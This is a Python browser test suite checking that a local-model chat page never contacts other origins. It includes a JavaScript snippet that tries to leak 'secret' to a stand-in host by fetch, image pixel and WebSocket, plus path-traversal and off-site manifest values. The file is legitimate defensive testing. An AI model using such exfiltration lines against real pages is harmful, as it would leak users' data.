"""Privacy: the page talks to its own origin only, and its Content-Security-Policy enforces that."""

import json
from urllib.parse import urlsplit

from web_helpers import browser, make_site, outside, pseudo_random_bytes, recorded_page, serving  # noqa: F401

# Tries to send data elsewhere in the ways a page can. Each attempt would fail anyway (nothing
# listens there), so the evidence is the policy violations and the empty request log.
EXFILTRATION = """async () => {
  const violations = [];
  document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
  await fetch("http://127.0.0.2:9/leak?q=secret").catch(() => {});
  await new Promise((done) => {
    const img = new Image();
    img.onload = img.onerror = done;
    img.src = "http://127.0.0.2:9/pixel.png?q=secret";
  });
  try { new WebSocket("ws://127.0.0.2:9/"); } catch {}
  await new Promise((done) => setTimeout(done, 300));
  return [...new Set(violations)].sort();
}"""


def test_no_request_leaves_the_origin(browser, tmp_path):
    site = make_site(tmp_path / "dist", {"model/weights-00.bin": pseudo_random_bytes(100_000, 1)})
    with serving(site) as url:
        origin = "{0.scheme}://{0.netloc}".format(urlsplit(url))
        context, page, requests = recorded_page(browser, url)
        page.wait_for_selector("body[data-state='no-backend']", timeout=30_000)
        page.click("#open-settings")
        page.click("#settings button[type=submit]")
        page.click("#new-chat")

        # The log covers the page and its worker (the model file is fetched by the worker).
        assert url + "model/weights-00.bin" in requests
        assert outside(requests, origin + "/") == []

        # The CSP refuses what a compromised script might try.
        blocked = []
        context.on("requestfailed", lambda request: blocked.append((request.url, request.failure)))
        assert page.evaluate(EXFILTRATION) == ["connect-src", "img-src"]
        # Chromium logs the image request it then refuses; it must never have left.
        elsewhere = set(outside(requests, origin + "/"))
        assert elsewhere <= {u for u, failure in blocked if failure == "csp"}, (elsewhere, blocked)
        context.close()


def test_manifest_cannot_point_outside_the_site(browser, tmp_path):
    site = make_site(tmp_path / "www" / "app", {"model/weights-00.bin": b"1234"})
    (tmp_path / "www" / "weights.bin").write_bytes(b"1234")  # same origin, but not this site's
    manifest = json.loads((site / "model" / "manifest.json").read_text())
    with serving(tmp_path / "www") as root_url:
        url = root_url + "app/"
        for path in ("http://127.0.0.2:9/weights.bin", "//127.0.0.2:9/weights.bin", "../../weights.bin"):
            manifest["files"][0]["path"] = path
            (site / "model" / "manifest.json").write_text(json.dumps(manifest))
            context, page, requests = recorded_page(browser, url)
            page.wait_for_selector("body[data-state='error']", timeout=30_000)
            assert "it must name a file of this site" in page.inner_text("#status"), path
            assert outside(requests, url) == [], path
            context.close()
